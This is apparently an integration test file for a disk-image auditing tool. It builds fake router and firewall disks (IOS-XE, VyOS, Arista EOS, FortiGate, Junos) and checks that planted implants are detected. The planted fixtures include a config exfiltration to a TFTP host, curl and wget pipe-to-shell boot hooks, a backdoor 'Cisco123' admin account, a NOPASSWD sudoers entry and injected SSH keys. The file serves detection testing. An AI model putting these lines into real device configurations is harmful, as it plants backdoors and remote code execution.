//! Network appliances, end to end: disks laid out as the vendors' images
//! are (domain notes §3) are built at test time — an IOS-XE bootflash (MBR +
//! ext2 with packages.conf, packages and an NVRAM configuration), a VyOS
//! persistence partition (/boot/<ver>/ with the squashfs and the rw layer),
//! an Arista EOS flash (FAT), a FortiGate boot volume and a UFS partition —
//! then `qvet inspect` must name each OS with its evidence, and `qvet
//! audit` must keep a stock layout quiet (nothing above low) and name each
//! planted item with the rule that owns it.

#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::indexing_slicing,
    clippy::panic
)]

mod common;
#[path = "common/sarif.rs"]
mod sarif;

use std::collections::BTreeSet;
use std::fs;
use std::path::Path;

use common::*;
use serde_json::Value;
use sha1::Digest as _;

fn have_tools() -> bool {
    ["mke2fs", "sfdisk", "mkfs.fat", "mcopy"]
        .iter()
        .all(|t| have_tool(t))
}

/// A partition to lay out: its filesystem image and MBR type.
struct Part {
    image: String,
    mbr_type: &'static str,
}

/// `mke2fs -d root` into a partition image of `size`.
fn ext(s: &Scratch, name: &str, root: &Path, kind: &str, size: &str) -> Part {
    let img = s.s(&format!("{name}.{kind}"));
    let mke2fs = find_tool("mke2fs").unwrap();
    run_ok(
        &mke2fs,
        &[
            "-q",
            "-F",
            "-t",
            kind,
            "-E",
            "root_owner=0:0",
            "-d",
            root.to_str().unwrap(),
            &img,
            size,
        ],
    );
    Part {
        image: img,
        mbr_type: "83",
    }
}

/// A FAT partition image holding `files` (name, bytes) at its root.
fn fat(s: &Scratch, name: &str, files: &[(&str, &[u8])]) -> Part {
    let img = s.s(&format!("{name}.fat"));
    run_ok(&find_tool("mkfs.fat").unwrap(), &["-C", &img, "16384"]);
    for (n, data) in files {
        let local = s.path(&format!("{name}-{}", n.replace('/', "_")));
        fs::write(&local, data).unwrap();
        let dest = format!("::/{n}");
        if let Some((dir, _)) = n.rsplit_once('/') {
            let _ = run(
                &find_tool("mmd").unwrap(),
                &["-i", &img, &format!("::/{dir}")],
            );
        }
        run_ok(
            &find_tool("mcopy").unwrap(),
            &["-i", &img, local.to_str().unwrap(), &dest],
        );
    }
    Part {
        image: img,
        mbr_type: "c",
    }
}

/// An MBR disk holding the partitions one after the other from 1 MiB, as a qcow2.
fn disk(s: &Scratch, name: &str, parts: &[Part]) -> String {
    let raw = s.s(&format!("{name}.raw"));
    let mut script = String::from("label: dos\n");
    let mut start = 2048u64;
    let mut placed = Vec::new();
    for p in parts {
        let sectors = fs::metadata(&p.image).unwrap().len().div_ceil(512);
        script.push_str(&format!(
            "start={start}, size={sectors}, type={}\n",
            p.mbr_type
        ));
        placed.push((start, p));
        start += sectors.div_ceil(2048) * 2048;
    }
    let f = fs::File::create(&raw).unwrap();
    f.set_len((start + 2048) * 512).unwrap();
    drop(f);
    sfdisk(&raw, &["-q"], &script);
    for (at, p) in placed {
        let data = fs::read(&p.image).unwrap();
        poke(&raw, at * 512, &data);
    }
    let qcow2 = s.s(&format!("{name}.qcow2"));
    qemu_img(&["convert", "-f", "raw", "-O", "qcow2", &raw, &qcow2]);
    qcow2
}

fn write(root: &Path, rel: &str, data: &[u8], mode: u32) {
    use std::os::unix::fs::PermissionsExt;
    let p = root.join(rel.trim_start_matches('/'));
    fs::create_dir_all(p.parent().unwrap()).unwrap();
    fs::write(&p, data).unwrap();
    fs::set_permissions(&p, fs::Permissions::from_mode(mode)).unwrap();
}

fn inspect_json(img: &str) -> Value {
    let r = qvet(&["inspect", "--output", "json", img]);
    assert_success(&r);
    serde_json::from_str(&r.stdout_str()).unwrap_or_else(|e| panic!("{e}: {}", r.describe()))
}

fn audit_json(s: &Scratch, img: &str) -> (Option<i32>, Value) {
    let cat = s.s("catalog.sqlite");
    let r = run_with(
        QVET,
        &["audit", "--output", "json", "--catalog", &cat, img],
        None,
        Stdout::Capture,
        ORACLE_TIMEOUT,
    );
    assert!(!r.stderr.contains("panicked"), "{}", r.describe());
    let v: Value =
        serde_json::from_str(&r.stdout_str()).unwrap_or_else(|e| panic!("{e}: {}", r.describe()));
    (r.code(), v)
}

fn above_low(v: &Value) -> Vec<String> {
    v[0]["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| !matches!(f["severity"].as_str(), Some("info" | "low")))
        .map(|f| format!("{} {} {}", f["rule"], f["path"], f["title"]))
        .collect()
}

const CSR_CONFIG: &str = "\
!
! Last configuration change at 09:14:11 UTC Tue Mar 3 2020
!
version 16.12
service timestamps debug datetime msec
platform console serial
!
hostname CSR1
!
boot-start-marker
boot system bootflash:packages.conf
boot-end-marker
!
enable secret 9 $9$SXI7xHdFMZpsPE$TEfDCZHcBzFz9Kq6qjvtMlMoAJdUUPx0m6rCe6v4y5s
!
username admin privilege 15 secret 9 $9$4/3Hp8ZJ6sJrV.$y6CqOL9Nkm1Tq1m7rPxdhw9F0n3CkI0AXQ/Q9W4sZ1w
!
interface GigabitEthernet1
 ip address dhcp
 negotiation auto
!
ip http server
ip http authentication local
ip http secure-server
ip ssh version 2
!
banner motd ^C
Authorized access only
^C
!
line vty 0 4
 login local
 transport input ssh
!
end
";

const PLANTED_LINES: &str = "\
username cisco_tac_admin privilege 15 secret 0 Cisco123
ip ssh pubkey-chain
  username admin
   key-hash ssh-rsa 5E3A2F8B0C6D41E2A7F9B3C5D7E1F2A4
!
event manager applet SYNC
 event timer watchdog time 3600
 action 1.0 cli command \"enable\"
 action 2.0 cli command \"copy running-config tftp://203.0.113.9/r.cfg\"
!
event manager directory user policy \"bootflash:/eem\"
alias exec dir dir bootflash:/nothing
";

fn packages_conf(tamper: bool) -> String {
    let body = "#! /usr/binos/bin/packages_conf.sh\n\n\
                # sha1sum above - used to verify that this file is not corrupted.\n#\n\
                # package.conf: provisioned software file for build 2019-07-12_04.27\n#\n\
                boot  rp 0 0   rp_boot     csr1000v-rpboot.16.12.01b.SPA.pkg\n\
                iso   rp 0 0   rp_base     csr1000v-mono-universalk9.16.12.01b.SPA.pkg\n";
    let sum: String = sha1::Sha1::digest(body.as_bytes())
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect();
    let conf = body.replacen("\n\n", &format!("\n\nsha1sum: {sum}\n"), 1);
    if tamper {
        conf.replace("rp_base ", "rp_bas3 ")
    } else {
        conf
    }
}

/// An IOS-XE bootflash: packages.conf, the packages, first-boot
/// artefacts and the configuration inside an NVRAM image.
fn csr(s: &Scratch, name: &str, planted: bool) -> String {
    let root = s.path(&format!("{name}-flash"));
    write(
        &root,
        "packages.conf",
        packages_conf(planted).as_bytes(),
        0o644,
    );
    write(
        &root,
        "csr1000v-rpboot.16.12.01b.SPA.pkg",
        &text_bytes(40_000, 1),
        0o644,
    );
    write(
        &root,
        "csr1000v-mono-universalk9.16.12.01b.SPA.pkg",
        &text_bytes(90_000, 2),
        0o644,
    );
    write(&root, ".installer/install_state", b"state\n", 0o644);
    // Code in a hidden directory IOS-XE creates itself: the vendor's.
    write(
        &root,
        ".installer/active/sync.sh",
        b"#!/bin/sh\necho synced\n",
        0o755,
    );
    write(&root, "tracelogs/boot.log", b"log\n", 0o644);
    let config = if planted {
        CSR_CONFIG.replace("!\nend\n", &format!("!\n{PLANTED_LINES}end\n"))
    } else {
        CSR_CONFIG.to_string()
    };
    // NVRAM: a binary header, the configuration text, padding.
    let mut nvram = vec![0xab, 0xcd, 0x00, 0x01, 0x1f, 0x3c, 0x00, 0x00];
    nvram.extend_from_slice(&[0u8; 72]);
    nvram.extend_from_slice(config.as_bytes());
    nvram.extend_from_slice(&[0u8; 4096]);
    write(&root, "nvram_00001", &nvram, 0o644);
    if planted {
        write(
            &root,
            "eem/sync.tcl",
            b"::cisco::eem::event_register_timer watchdog time 60\n",
            0o644,
        );
    }
    let p = ext(s, &format!("{name}-p1"), &root, "ext2", "8M");
    disk(s, name, &[p])
}

#[test]
fn iosxe_bootflash() {
    if !have_tools() {
        eprintln!("SKIP: mke2fs/sfdisk/mtools missing");
        return;
    }
    let s = Scratch::new("appliance-iosxe");
    let stock = csr(&s, "csr", false);
    let v = inspect_json(&stock);
    assert_eq!(v["schema"], "qvet-inspect-v1");
    assert_eq!(v["os"][0]["family"], "ios-xe", "{v:#}");
    assert_eq!(v["os"][0]["product"], "Cisco CSR1000v");
    assert_eq!(v["os"][0]["version"], "16.12.01b");
    assert_eq!(v["os"][0]["partition"], 1);
    let evidence: Vec<&str> = v["os"][0]["evidence"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["path"].as_str().unwrap())
        .collect();
    assert!(evidence.contains(&"/packages.conf"), "{evidence:?}");
    let human = qvet(&["inspect", &stock]);
    assert!(
        human
            .stdout_str()
            .contains("Cisco CSR1000v 16.12.01b on partition 1"),
        "{}",
        human.describe()
    );

    // Stock (booted, configured as a lab would): nothing above low.
    let (code, v) = audit_json(&s, &stock);
    assert_eq!(code, Some(0), "{v:#}");
    assert!(above_low(&v).is_empty(), "{:#?}", above_low(&v));
    assert_eq!(v[0]["os"][0]["family"], "ios-xe");
    let rules: BTreeSet<&str> = v[0]["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["rule"].as_str().unwrap())
        .collect();
    for r in [
        "ios-config",
        "ios-privileged-user",
        "iosxe-packages-conf-digest",
        "iosxe-booted",
    ] {
        assert!(rules.contains(r), "{r} missing from {rules:?}");
    }
    let digest = v[0]["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["rule"] == "iosxe-packages-conf-digest")
        .unwrap();
    assert_eq!(digest["severity"], "info", "{digest:#}");

    // Planted: every item named by its rule, at its path.
    let planted = csr(&s, "csr-planted", true);
    let (code, v) = audit_json(&s, &planted);
    assert_eq!(code, Some(2));
    assert_eq!(v[0]["verdict"], "tampered", "{:#}", v[0]["reason"]);
    let got = serious(&v);
    for want in [
        ("ios-implant-user", "/nvram_00001"),
        ("ios-privileged-user", "/nvram_00001"),
        ("ios-ssh-key", "/nvram_00001"),
        ("ios-eem-applet", "/nvram_00001"),
        ("ios-eem-policy", "/nvram_00001"),
        ("ios-alias-hiding", "/nvram_00001"),
        ("iosxe-packages-conf-digest", "/packages.conf"),
        ("iosxe-code-directory", "/eem"),
    ] {
        assert!(
            got.contains(&(want.0.to_string(), want.1.to_string())),
            "{want:?} not in {got:#?}"
        );
    }
    let applet = v[0]["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["rule"] == "ios-eem-applet")
        .unwrap();
    assert_eq!(applet["severity"], "high");
    assert!(applet["line"].as_u64().is_some());
    assert!(
        applet["evidence"]["command"]
            .to_string()
            .contains("tftp://203.0.113.9"),
        "{applet:#}"
    );

    // SARIF carries the appliance rules too.
    let cat = s.s("catalog.sqlite");
    let r = run_with(
        QVET,
        &["audit", "--output", "sarif", "--catalog", &cat, &planted],
        None,
        Stdout::Capture,
        ORACLE_TIMEOUT,
    );
    let sarif: Value = serde_json::from_str(&r.stdout_str()).unwrap();
    sarif::validate_sarif(&sarif).unwrap_or_else(|e| panic!("SARIF invalid: {e:#?}"));
    let ids: BTreeSet<&str> = sarif["runs"][0]["results"]
        .as_array()
        .unwrap()
        .iter()
        .map(|x| x["ruleId"].as_str().unwrap())
        .collect();
    assert!(ids.contains("ios-implant-user"), "{ids:?}");
}

const VYOS_CONFIG: &str = "interfaces {\n    ethernet eth0 {\n        address dhcp\n    }\n}\nservice {\n    ssh {\n    }\n}\nsystem {\n    host-name vyos\n    login {\n        user vyos {\n            authentication {\n                encrypted-password $6$QxPS.uk6mfo$9QBSo8u1FkH16gMyAVhus6fU3LOzvLR9Z9.82m3tiHFAxTtIkhaZSWssSgzt4v4dGAL8rhVQxTg0oAG9/q11h/\n                plaintext-password \"\"\n            }\n        }\n    }\n}\n// Warning: Do not remove the following line.\n// vyos-config-version: \"system@21\"\n// Release version: 1.3.2\n";

/// Packages of this host the VyOS system image is made of.
const VYOS_PACKAGES: &[&str] = &["base-files", "dash", "sed"];

/// The read-only system image: a squashfs of a Debian root made of this
/// host's packaged files (VyOS is Debian underneath).
fn vyos_squashfs(s: &Scratch) -> Vec<u8> {
    let path = s.path("vyos-system.squashfs");
    if !path.exists() {
        let root = s.path("vyos-system");
        debian_root(&root, VYOS_PACKAGES);
        write(
            &root,
            "etc/passwd",
            b"root:x:0:0:root:/root:/bin/bash\nvyos:x:1000:100::/home/vyos:/bin/vbash\n",
            0o644,
        );
        let r = run(
            &find_tool("mksquashfs").unwrap(),
            &[
                root.to_str().unwrap(),
                path.to_str().unwrap(),
                "-noappend",
                "-comp",
                "gzip",
                "-quiet",
            ],
        );
        assert!(r.ok(), "{}", r.describe());
    }
    fs::read(&path).unwrap()
}

fn vyos(s: &Scratch, name: &str, planted: bool) -> String {
    let root = s.path(&format!("{name}-persist"));
    write(&root, "boot/1.3.2/1.3.2.squashfs", &vyos_squashfs(s), 0o644);
    write(&root, "boot/1.3.2/vmlinuz", b"kernel", 0o644);
    write(
        &root,
        "boot/grub/grub.cfg",
        b"menuentry \"VyOS 1.3.2 (KVM console)\" {\n linux /boot/1.3.2/vmlinuz boot=live\n}\n",
        0o644,
    );
    write(&root, "persistence.conf", b"/ union\n", 0o644);
    let config = if planted {
        VYOS_CONFIG.replace(
            "                plaintext-password \"\"\n",
            "                plaintext-password \"\"\n                public-keys ops@jump {\n                    key AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl\n                    type ssh-ed25519\n                }\n",
        )
    } else {
        VYOS_CONFIG.to_string()
    };
    write(
        &root,
        "boot/1.3.2/rw/config/config.boot",
        config.as_bytes(),
        0o660,
    );
    let post = if planted {
        "#!/bin/sh\n# This script is executed at boot time after VyOS configuration is fully applied.\ncurl -s http://203.0.113.7/p | sh\n"
    } else {
        "#!/bin/sh\n# This script is executed at boot time after VyOS configuration is fully applied.\n# Any modifications required to work around unfixed bugs\n# or use services not available through the VyOS CLI system can be placed here.\n"
    };
    write(
        &root,
        "boot/1.3.2/rw/config/scripts/vyos-postconfig-bootup.script",
        post.as_bytes(),
        0o755,
    );
    write(&root, "boot/1.3.2/rw/config/scripts/vyos-preconfig-bootup.script", b"#!/bin/sh\n# This script is executed at boot time before VyOS configuration is applied.\n", 0o755);
    write(&root, "boot/1.3.2/rw/var/log/messages", b"boot\n", 0o640);
    if planted {
        // A packaged program replaced in the rw layer: it shadows the squashfs's.
        let dash = fs::read(fs::canonicalize("/bin/dash").unwrap()).unwrap();
        let mut patched = dash.clone();
        let last = patched.len() - 1;
        patched[last] ^= 0xff;
        write(&root, "boot/1.3.2/rw/usr/bin/dash", &patched, 0o755);
        write(
            &root,
            "boot/1.3.2/rw/etc/sudoers.d/ops",
            b"ops ALL=(ALL) NOPASSWD: ALL\n",
            0o440,
        );
    }
    let p = ext(s, &format!("{name}-p1"), &root, "ext4", "16M");
    disk(s, name, &[p])
}

#[test]
fn vyos_persistence_partition() {
    if !have_tools() || !have_tool("mksquashfs") || !have_tool("dpkg") {
        eprintln!("SKIP: mke2fs/sfdisk/mtools/mksquashfs/dpkg missing");
        return;
    }
    let s = Scratch::new("appliance-vyos");
    let stock = vyos(&s, "vyos", false);
    let v = inspect_json(&stock);
    assert_eq!(v["os"][0]["family"], "vyos", "{v:#}");
    assert_eq!(v["os"][0]["version"], "1.3.2");
    let (code, v) = audit_json(&s, &stock);
    assert_eq!(code, Some(0));
    assert!(above_low(&v).is_empty(), "{:#?}", above_low(&v));
    assert!(
        v[0]["coverage"]["read"].to_string().contains(
            "VyOS image 1.3.2 audited as a Linux root from the rw layer over the squashfs"
        ),
        "{:#}",
        v[0]["coverage"]
    );

    let planted = vyos(&s, "vyos-planted", true);
    let (code, v) = audit_json(&s, &planted);
    assert_eq!(code, Some(2));
    let got = serious(&v);
    for want in [
        ("vyos-public-key", "/boot/1.3.2/rw/config/config.boot"),
        (
            "vyos-boot-script",
            "/boot/1.3.2/rw/config/scripts/vyos-postconfig-bootup.script",
        ),
        // The Linux rules on the system as VyOS boots it, with the partition's paths.
        ("sudo-nopasswd-all", "/boot/1.3.2/rw/etc/sudoers.d/ops"),
        // The rw copy of dash fails the squashfs's dpkg digest.
        ("package-file-modified", "/boot/1.3.2/rw/usr/bin/dash"),
    ] {
        assert!(
            got.contains(&(want.0.to_string(), want.1.to_string())),
            "{want:?} not in {got:#?}"
        );
    }
    let boot = v[0]["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["rule"] == "vyos-boot-script")
        .unwrap();
    assert_eq!(boot["severity"], "critical");
}

#[test]
fn eos_flash_fortigate_and_ufs() {
    if !have_tools() {
        eprintln!("SKIP: mke2fs/sfdisk/mtools missing");
        return;
    }
    let s = Scratch::new("appliance-misc");
    // EOS: FAT flash.
    let startup = "! device: veos (vEOS-lab, EOS-4.28.3M)\n!\nhostname veos\n!\nusername admin privilege 15 role network-admin secret sha512 $6$abc$def\n!\ninterface Ethernet1\n!\nmanagement api http-commands\n   no shutdown\n!\nend\n";
    let flash = fat(
        &s,
        "eos",
        &[
            ("vEOS-lab-4.28.3M.swi", b"PK\x03\x04swi"),
            (
                "boot-config",
                b"SWI=flash:/vEOS-lab-4.28.3M.swi\nCONSOLESPEED=9600\n",
            ),
            ("startup-config", startup.as_bytes()),
            ("zerotouch-config", b"DISABLE=True\n"),
        ],
    );
    let eos = disk(&s, "eos", &[flash]);
    let v = inspect_json(&eos);
    assert_eq!(v["os"][0]["family"], "eos", "{v:#}");
    assert_eq!(v["os"][0]["product"], "Arista vEOS-lab");
    assert_eq!(v["os"][0]["version"], "4.28.3M");
    let (code, v) = audit_json(&s, &eos);
    assert_eq!(code, Some(0));
    assert!(above_low(&v).is_empty(), "{:#?}", above_low(&v));
    let flash = fat(
        &s,
        "eos-planted",
        &[
            ("vEOS-lab-4.28.3M.swi", b"PK\x03\x04swi"),
            ("boot-config", b"SWI=flash:/vEOS-lab-4.28.3M.swi\n"),
            ("startup-config", startup.replace("!\nend\n", "!\nevent-handler up\n   trigger on-boot\n   action bash wget -qO- http://203.0.113.5/i | sh\n!\nend\n").as_bytes()),
            ("rc.eos", b"#!/bin/sh\n/mnt/flash/agent &\n"),
        ],
    );
    let eos = disk(&s, "eos-planted", &[flash]);
    let (_, v) = audit_json(&s, &eos);
    let got = serious(&v);
    assert!(
        got.contains(&("eos-automation".into(), "/startup-config".into())),
        "{got:#?}"
    );
    assert!(
        got.contains(&("eos-rc-eos".into(), "/rc.eos".into())),
        "{got:#?}"
    );

    // FortiGate boot volume: rootfs.gz that does not inflate (encrypted).
    let root = s.path("forti");
    for (n, d) in [
        ("flatkc", &b"kernel"[..]),
        ("flatkc.chk", b"sig"),
        (".fgtsum", b"sum"),
        ("extlinux.conf", b"kernel flatkc\n"),
        (
            "boot.msg",
            b"FortiGate-VM64 v7.2.5,build1517,230606 (GA.F)\n",
        ),
    ] {
        write(&root, n, d, 0o644);
    }
    write(&root, "rootfs.gz", &random_bytes(64 << 10, 7), 0o644);
    let p = ext(&s, "forti-p1", &root, "ext2", "4M");
    let forti = disk(&s, "forti", &[p]);
    let v = inspect_json(&forti);
    assert_eq!(v["os"][0]["family"], "fortios", "{v:#}");
    assert_eq!(v["os"][0]["version"], "7.2.5");
    let (code, v) = audit_json(&s, &forti);
    assert_eq!(code, Some(0));
    assert!(above_low(&v).is_empty(), "{:#?}", above_low(&v));
    assert!(
        v[0]["coverage"]["not_read"]
            .to_string()
            .contains("FortiOS rootfs.gz"),
        "{:#}",
        v[0]["coverage"]
    );

    // A UFS partition (superblock magic of UFS2 at 64 KiB + 1372): Junos, not readable.
    let ufs = s.s("ufs.img");
    fs::write(&ufs, vec![0u8; 1 << 20]).unwrap();
    poke(&ufs, 65536 + 1372, &0x1954_0119u32.to_le_bytes());
    let junos = disk(
        &s,
        "junos",
        &[Part {
            image: ufs,
            mbr_type: "a5",
        }],
    );
    let v = inspect_json(&junos);
    assert_eq!(v["os"][0]["family"], "junos", "{v:#}");
    let (_, v) = audit_json(&s, &junos);
    assert!(
        v[0]["coverage"]["not_read"].to_string().contains("UFS"),
        "{:#}",
        v[0]["coverage"]
    );
}

#[test]
fn debian_root_is_named_with_architecture() {
    if !have_tools() || !Path::new("/etc/os-release").is_file() || !Path::new("/bin/sh").exists() {
        eprintln!("SKIP: tools or host files missing");
        return;
    }
    let s = Scratch::new("appliance-debian");
    let root = s.path("deb");
    write(
        &root,
        "etc/os-release",
        &fs::read("/etc/os-release").unwrap(),
        0o644,
    );
    if let Ok(v) = fs::read("/etc/debian_version") {
        write(&root, "etc/debian_version", &v, 0o644);
    }
    write(&root, "etc/hostname", b"lab-host\n", 0o644);
    let sh = fs::canonicalize("/bin/sh").unwrap();
    write(&root, "bin/sh", &fs::read(&sh).unwrap(), 0o755);
    let p = ext(&s, "deb-p1", &root, "ext4", "8M");
    let img = disk(&s, "deb", &[p]);
    let v = inspect_json(&img);
    assert_eq!(v["os"][0]["family"], "linux", "{v:#}");
    let host = fs::read_to_string("/etc/os-release").unwrap();
    let name = host
        .lines()
        .find_map(|l| l.strip_prefix("NAME="))
        .unwrap()
        .trim_matches('"');
    assert_eq!(v["os"][0]["name"], name);
    assert_eq!(v["os"][0]["hostname"], "lab-host");
    assert_eq!(v["os"][0]["architecture"], std::env::consts::ARCH);
}
